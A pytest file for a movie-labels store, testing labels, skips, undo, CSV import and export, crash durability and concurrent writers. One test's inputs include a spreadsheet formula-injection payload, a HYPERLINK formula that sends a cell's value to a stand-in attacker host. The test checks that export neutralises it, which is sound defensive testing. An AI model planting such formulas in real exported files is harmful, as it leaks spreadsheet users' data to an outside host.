"""The labels store: semantics of labels, skips and undo; CSV import/export; durability under
SIGKILL; concurrent writers. Tests taking ``label_store`` or ``store_locations`` run on every back
end: SQLite, and PostgreSQL when a test server is given (``MARQUEE_TEST_POSTGRES_URL``; CI has one)."""
from __future__ import annotations

import csv
import io
import os
import secrets
import signal
import socket
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
from urllib.parse import urlsplit, urlunsplit

import pytest

from core.errors import MarqueeError
from core.personal.store import (SQLiteLabelStore, WOULD_NOT_WATCH, WOULD_WATCH, WOULD_WATCH_MANY,
                                 open_store)
from core.personal.store.csv_io import FORMULA_LEADS
from tests.conftest import PROJECT_ROOT


def test_label_relabel_and_undo_restore_previous_state(label_store):
    s = label_store
    s.set_label("ann", "cat", 1, WOULD_WATCH, title="One")
    s.set_label("ann", "cat", 1, WOULD_NOT_WATCH, title="One")
    assert s.labels("ann", "cat")["label"].tolist() == [WOULD_NOT_WATCH]
    undone = s.undo("ann", "cat")
    assert (undone.movie_id, undone.action, undone.restored) == (1, WOULD_NOT_WATCH, WOULD_WATCH)
    assert s.labels("ann", "cat")["label"].tolist() == [WOULD_WATCH]
    assert s.undo("ann", "cat").restored is None
    assert s.labels("ann", "cat").empty
    assert s.undo("ann", "cat") is None
    assert s.profiles() == ["ann"]


def test_skip_is_never_a_negative_label(label_store):
    s = label_store
    s.skip("bo", "cat", 7)
    s.set_label("bo", "cat", 8, WOULD_NOT_WATCH)
    assert s.labels("bo", "cat")["movie_id"].tolist() == [8]
    assert s.skipped("bo", "cat") == {7}
    counts = s.counts("bo", "cat")
    assert counts[WOULD_NOT_WATCH] == 1 and counts["skip"] == 1
    # labeling a skipped title clears the skip; undo brings the skip back
    s.set_label("bo", "cat", 7, WOULD_WATCH_MANY)
    assert s.skipped("bo", "cat") == set()
    s.undo("bo", "cat")
    assert s.skipped("bo", "cat") == {7} and 7 not in set(s.labels("bo", "cat")["movie_id"])
    with pytest.raises(MarqueeError, match="a skip is not a label"):
        s.set_label("bo", "cat", 9, "skip")


def test_profiles_and_catalogs_are_separate_and_exclusions(label_store):
    s = label_store
    s.set_label("a", "c1", 1, WOULD_WATCH)
    s.set_label("b", "c1", 1, WOULD_NOT_WATCH)
    s.set_label("a", "c2", 1, WOULD_NOT_WATCH)
    assert s.labels("a", "c1")["label"].tolist() == [WOULD_WATCH]
    assert s.labels("b", "c1")["label"].tolist() == [WOULD_NOT_WATCH]
    s.undo("a", "c2")
    assert s.labels("a", "c1")["label"].tolist() == [WOULD_WATCH]  # undo touched only (a, c2)
    s.exclude("a", "c1", [5, 6], reason="not on my services")
    assert s.exclusions("a", "c1")["movie_id"].tolist() == [5, 6]
    s.unexclude("a", "c1", [5])
    assert s.exclusions("a", "c1")["movie_id"].tolist() == [6]
    s.undo("a", "c1")  # undo the unexclude
    assert s.exclusions("a", "c1")["movie_id"].tolist() == [5, 6]
    s.set_label("a", "c1", 6, WOULD_NOT_WATCH)
    s.undo("a", "c1")
    assert s.exclusions("a", "c1").set_index("movie_id")["reason"].to_dict() == {5: "not on my services", 6: "not on my services"}
    s.undo("a", "c1")
    s.undo("a", "c1")
    assert s.exclusions("a", "c1").empty and s.labels("a", "c1")["label"].tolist() == [WOULD_WATCH]
    with pytest.raises(MarqueeError, match="profile name"):
        s.set_label("bad name!", "c1", 1, WOULD_WATCH)


def test_store_is_wal_and_reopens(tmp_path):
    path = tmp_path / "x" / "labels.sqlite"
    open_store(f"sqlite:///{path}").set_label("p", "c", 3, WOULD_WATCH)
    assert sqlite3.connect(path).execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert SQLiteLabelStore(path).labels("p", "c")["movie_id"].tolist() == [3]


def test_csv_round_trip(label_store, store_locations, tmp_path):
    s = label_store
    for movie_id, label in [(1, WOULD_WATCH), (2, WOULD_NOT_WATCH), (3, WOULD_WATCH_MANY)]:
        s.set_label("p", "c", movie_id, label, title=f"Film {movie_id}")
    path = tmp_path / "labels.csv"
    s.export_csv("p", "c", path)
    other = open_store(store_locations())
    assert other.import_csv("q", "c", path, known_movie_ids={1, 2, 3}) == 3
    mine, theirs = s.labels("p", "c"), other.labels("q", "c")
    assert mine[["movie_id", "label", "title"]].equals(theirs[["movie_id", "label", "title"]])


@pytest.mark.parametrize("title", ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)",
                                   "\tTab", "\rReturn", "'=already quoted"])
def test_csv_export_neutralises_formulas_and_imports_back_unchanged(label_store, store_locations, title):
    s = label_store
    s.set_label("p", "c", -1, WOULD_WATCH, title=title)  # a negative id is a number, never quoted
    text = s.export_csv("p", "c")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["movie_id"] == "-1"
    assert rows[0]["title"] == "'" + title
    assert not rows[0]["title"].startswith(FORMULA_LEADS)
    other = open_store(store_locations())
    assert other.import_csv("q", "c", io.StringIO(text)) == 1
    assert other.labels("q", "c")["title"].tolist() == [title]


def test_every_downloaded_table_neutralises_formulas():
    import pandas as pd

    from core.io import spreadsheet_csv

    frame = pd.DataFrame({"title": ['=HYPERLINK("http://x")', "@SUM(A1)", "Plain", None], "year": [-1, 2, 3, 4]})
    rows = list(csv.DictReader(io.StringIO(spreadsheet_csv(frame))))
    assert [r["title"] for r in rows] == ['\'=HYPERLINK("http://x")', "'@SUM(A1)", "Plain", ""]
    assert [r["year"] for r in rows] == ["-1", "2", "3", "4"]  # numbers are never touched


@pytest.mark.parametrize("name", ["ann\n", "ann\r", "a\x00b", "a\tb", "\u202eann", "", "-ann", "x" * 65])
def test_profile_names_with_control_characters_or_bad_shape_are_refused(label_store, name):
    with pytest.raises(MarqueeError, match="profile name"):
        label_store.set_label(name, "c", 1, WOULD_WATCH)
    assert label_store.profiles() == []


@pytest.mark.parametrize("content, message", [
    ("movie_id,rating\n1,4\n", "missing column\\(s\\) label"),
    ("", "empty file"),
    ("movie_id,label\n", "no label rows"),
    ("movie_id,label\n1,would_watch\nabc,would_watch\n", "line 3, field movie_id: not an integer"),
    ("movie_id,label\n1,would_watch\n1e20,would_watch\n", "line 3, field movie_id: '1e20' is out of the 64-bit id range"),
    ("movie_id,label\n1,would_watch\n1e400,would_watch\n", "line 3, field movie_id: not an integer"),
    ("movie_id,label\n1,would_watch\nnan,would_watch\n", "line 3, field movie_id: not an integer"),
    ("movie_id,label\n1,would_watch\n2,meh\n", "line 3, field label: 'meh' is not one of"),
    ("movie_id,label\n1,would_watch\n2,skip\n", "skips are not labels"),
    ("movie_id,label\n1,would_watch\n1,would_not_watch\n", "line 3, field movie_id: 1 already labeled on line 2"),
    ("movie_id,label\n1,would_watch\n99,would_watch\n", "line 3, field movie_id: 99 is not a film of this catalog"),
    ("movie_id,label,labeled_at\n1,would_watch,2024-01-01\n2,would_watch,yesterday-ish\n", "line 3, field labeled_at"),
])
def test_bad_csv_imports_nothing_and_says_where(label_store, tmp_path, content, message):
    s = label_store
    s.set_label("p", "c", 2, WOULD_NOT_WATCH)
    path = tmp_path / "bad.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(MarqueeError, match=message) as info:
        s.import_csv("p", "c", path, known_movie_ids={1, 2, 3})
    assert "bad.csv" in str(info.value)
    assert s.labels("p", "c")[["movie_id", "label"]].values.tolist() == [[2, WOULD_NOT_WATCH]]
    assert s.version("p", "c") == 1


def test_csv_not_utf8_is_refused(label_store):
    with pytest.raises(MarqueeError, match="upload.csv: not UTF-8"):
        label_store.import_csv("p", "c", io.BytesIO("movie_id,label\n1,would_watch\n".encode("utf-16")), name="upload.csv")


def test_postgres_without_psycopg_is_a_clear_error(monkeypatch):
    monkeypatch.setitem(sys.modules, "psycopg", None)  # what a missing package looks like to import
    with pytest.raises(MarqueeError, match="needs the 'psycopg' package"):
        open_store("postgresql://user:secret@localhost/labels")


def test_postgres_refusals_name_the_server_but_never_the_password(postgres_url):
    """A closed port and, on a server that checks passwords (CI's uses scram-sha-256), a wrong
    password: one clear line each, the URL shown with its credentials masked."""
    parts = urlsplit(postgres_url)
    wrong = "wrong-" + secrets.token_hex(8)
    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        closed_port = probe.getsockname()[1]
    netlocs = [f"{parts.username}:{wrong}@127.0.0.1:{closed_port}"]
    if parts.password:  # a server reached without one trusts the connection whatever it says
        netlocs.append(f"{parts.username}:{wrong}@{parts.hostname}:{parts.port}")
    for netloc in netlocs:
        with pytest.raises(MarqueeError, match=r"cannot connect to the labels database postgresql://\*\*\*@") as info:
            open_store(urlunsplit(parts._replace(netloc=netloc)))
        assert wrong not in str(info.value) and "\n" not in str(info.value).strip()


WRITER = textwrap.dedent("""
    import sys
    sys.path.insert(0, {root!r})
    from core.personal.store import open_store
    store = open_store({location!r})
    start, count, profile = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    for movie_id in range(start, start + count):
        label = "would_watch" if movie_id % 3 else "would_not_watch"
        store.set_label(profile, "cat", movie_id, label, title=f"film {{movie_id}}")
        if movie_id % 4 == 0:
            store.skip(profile, "cat", movie_id + 100000)
        print(movie_id, flush=True)
""")


def _writer(tmp_path, location, start, count, profile="p"):
    script = tmp_path / "writer.py"
    script.write_text(WRITER.format(root=str(PROJECT_ROOT), location=str(location)), encoding="utf-8")
    return subprocess.Popen([sys.executable, str(script), str(start), str(count), profile],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_labels_survive_sigkill(tmp_path, store_locations):
    location = store_locations()
    open_store(location)  # the schema, before the clock starts
    proc = _writer(tmp_path, location, 0, 1_000_000)
    confirmed = []
    # Kill after a fixed number of confirmed labels, not after a time: on a loaded machine the
    # writer's imports alone took most of a minute (25 labels in 60 s once); the deadline only
    # stops a writer that hangs.
    deadline = time.monotonic() + 600
    while len(confirmed) < 100 and time.monotonic() < deadline:
        line = proc.stdout.readline()
        if not line:
            break
        confirmed.append(int(line))
    os.kill(proc.pid, signal.SIGKILL)  # mid-session, possibly mid-transaction
    # read what is left through the same buffered reader readline() used (communicate() would
    # bypass its buffer and lose lines already read from the pipe)
    confirmed += [int(x) for x in proc.stdout.read().split()]
    proc.wait(timeout=30)
    assert proc.returncode == -signal.SIGKILL
    assert len(confirmed) >= 100
    store = open_store(location)
    stored = set(store.labels("p", "cat")["movie_id"])
    assert set(confirmed) <= stored
    assert len(stored) - len(confirmed) <= 1  # at most the one committed but not yet printed
    if isinstance(store, SQLiteLabelStore):
        assert sqlite3.connect(store.path).execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    store.set_label("p", "cat", -1, WOULD_WATCH)  # still writable after the crash
    assert -1 in set(store.labels("p", "cat")["movie_id"])


def test_concurrent_writers_lose_nothing(tmp_path, store_locations):
    location = store_locations()
    open_store(location)  # create the schema once
    per_writer, writers = 60, 3
    procs = [_writer(tmp_path, location, i * 1000, per_writer) for i in range(writers)]
    threads_done = []

    def thread_writer(offset):
        store = open_store(location)
        for movie_id in range(offset, offset + 30):
            store.set_label("p", "cat", movie_id, WOULD_WATCH_MANY)
        threads_done.append(offset)

    threads = [threading.Thread(target=thread_writer, args=(50_000 + 100 * i,)) for i in range(3)]
    for t in threads:
        t.start()
    outputs = [p.communicate(timeout=600) for p in procs]  # generous: only a hung writer should hit it
    for t in threads:
        t.join(timeout=600)
    for proc, (out, err) in zip(procs, outputs):
        assert proc.returncode == 0, err
        assert len(out.split()) == per_writer
    assert len(threads_done) == 3
    store = open_store(location)
    labels = store.labels("p", "cat")
    expected = {i * 1000 + k for i in range(writers) for k in range(per_writer)} | \
               {50_000 + 100 * i + k for i in range(3) for k in range(30)}
    assert set(labels["movie_id"]) == expected
    assert labels["movie_id"].is_unique
    wrote = labels.set_index("movie_id")["label"]
    assert all(wrote[m] == ("would_watch" if m % 3 else "would_not_watch") for m in expected if m < 50_000)
    skips = {m + 100000 for m in expected if m < 50_000 and m % 4 == 0}
    assert store.skipped("p", "cat") == skips
    assert store.version("p", "cat") == len(expected) + len(skips)
